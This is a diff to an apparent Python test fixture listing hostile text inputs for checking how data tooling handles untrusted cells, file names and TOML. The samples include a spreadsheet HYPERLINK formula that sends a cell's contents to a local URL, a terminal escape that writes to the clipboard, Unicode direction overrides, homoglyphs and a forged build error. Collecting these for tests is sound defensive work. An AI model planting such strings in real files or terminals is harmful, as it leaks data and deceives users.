@@ -7,8 +7,9 @@ class Hostile(NamedTuple):
     """
     A text, what it is called in the names of tests, and where it may come from.
 
-    ``origin``: ``cell`` of a raw file or a heading of its columns; ``file``, a name of one;
-    ``toml``, a text of source.toml, claims.toml or appendix.toml; ``bib``, of references.bib.
+    ``origin``: ``cell`` of a raw file, or a heading of its columns; ``file``, a name of one;
+    ``toml``, what a person writes in source.toml, claims.toml, appendix.toml or appendix.md;
+    ``any`` of them.
     """
 
     name: str
@@ -77,28 +78,29 @@ HOSTILE = (
     Hostile("formula-link", '=HYPERLINK("http://127.0.0.1:9/?"&A1,"a")'),
     Hostile("formula-quoted", '"=1+1",=1+1'),
     # Terminals
-    Hostile("colour", "\x1b[31mred\x1b[0m"),
-    Hostile("clear", "\x1b[2J\x1b[H"),
-    Hostile("terminal-link", "\x1b]8;;http://127.0.0.1:9/\x1b\\a\x1b]8;;\x1b\\", "file"),
-    Hostile("clipboard", "\x1b]52;c;Y3VybA==\x07"),
-    Hostile("title-of-window", "\x1b]0;a\x07", "file"),
-    Hostile("c1", "\x9b31m \x9d0;a\x9c"),
-    Hostile("nul", "a\x00b"),
-    Hostile("bell", "a\x07b"),
-    Hostile("backspace", "evil\x08\x08\x08\x08good"),
-    Hostile("return", "evil\rgood"),
-    Hostile("delete", "a\x7fb"),
-    Hostile("feeds", "a\x0bb\x0cc\x1cd\x1ee\x85f"),
+    Hostile("colour", "\x1b[31mred\x1b[0m", "any"),
+    Hostile("clear", "\x1b[2J\x1b[H", "any"),
+    Hostile("terminal-link", "\x1b]8;;http://127.0.0.1:9/\x1b\\a\x1b]8;;\x1b\\", "any"),
+    Hostile("clipboard", "\x1b]52;c;Y3VybA==\x07", "any"),
+    Hostile("title-of-window", "\x1b]0;a\x07", "any"),
+    Hostile("c1", "\x9b31m \x9d0;a\x9c", "any"),
+    Hostile("nul", "a\x00b", "any"),
+    Hostile("bell", "a\x07b", "any"),
+    Hostile("backspace", "evil\x08\x08\x08\x08good", "any"),
+    Hostile("return", "evil\rgood", "any"),
+    Hostile("delete", "a\x7fb", "any"),
+    Hostile("feeds", "a\x0bb\x0cc\x1cd\x1ee\x85f", "any"),
     # What a reader does not see
-    Hostile("override", "\u202eevitagen\u202c", "file"),
-    Hostile("embeddings", "\u202aa\u202b b\u202d c\u202c"),
-    Hostile("isolates", "\u2066a\u2067b\u2068c\u2069"),
-    Hostile("zero-width", "a\u200bb\ufeffc\u2060d"),
-    Hostile("separators", "a\u2028b\u2029c"),
-    Hostile("surrogate", "a\ud800b", "file"),
-    Hostile("surrogate-pair", "\udcff.csv", "file"),
-    Hostile("decomposed", "Co\u0302te d\u2019Ivoire"),
-    Hostile("homoglyph", "I\u0455rael"),
+    Hostile("override", "\u202eevitagen\u202c", "any"),
+    Hostile("embeddings", "\u202aa\u202b b\u202d c\u202c", "any"),
+    Hostile("isolates", "\u2066a\u2067b\u2068c\u2069", "any"),
+    Hostile("zero-width", "a\u200bb\ufeffc\u2060d", "any"),
+    Hostile("no-characters", "a\ufffeb\uffffc", "any"),
+    Hostile("separators", "a\u2028b\u2029c", "any"),
+    Hostile("surrogate", "a\ud800b", "any"),
+    Hostile("surrogate-pair", "\udcff.csv", "any"),
+    Hostile("decomposed", "Co\u0302te d\u2019Ivoire", "any"),
+    Hostile("homoglyph", "I\u0455rael", "any"),
     # Lines, quotes, names
     Hostile("lines", "a\nb\r\nc", "toml"),
     Hostile("forged-error", "a\nerror: the build failed", "toml"),
